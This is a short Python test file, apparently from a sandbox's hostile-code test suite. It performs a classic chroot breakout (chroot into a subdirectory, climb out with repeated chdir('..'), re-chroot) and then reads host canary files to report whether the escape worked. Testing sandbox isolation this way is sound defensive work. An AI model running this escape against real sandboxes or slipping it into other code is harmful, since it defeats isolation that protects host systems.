# attempts: classic chroot breakout (chroot into a subdir, chdir('..') x64, chroot('.')) then read host canaries
# category: escape
import os

os.makedirs("jail", exist_ok=True)
keep = os.open(".", os.O_RDONLY)
os.chroot("jail")  # PermissionError without CAP_SYS_CHROOT
os.fchdir(keep)
for _ in range(64):
    os.chdir("..")
os.chroot(".")
errors, found = [], None
for p in ("/tmp/trutheye-canary/canary.txt", "/work/main/sandbox/tests/hostile_python/CANARY"):
    try:
        with open(p) as f:
            if "TRUTHEYE-CANARY" in f.read():
                found = p
    except OSError as e:
        errors.append(e)
if found:
    print(f"ESCAPED: chroot breakout reached the host canary {found}")
else:
    raise errors[-1]
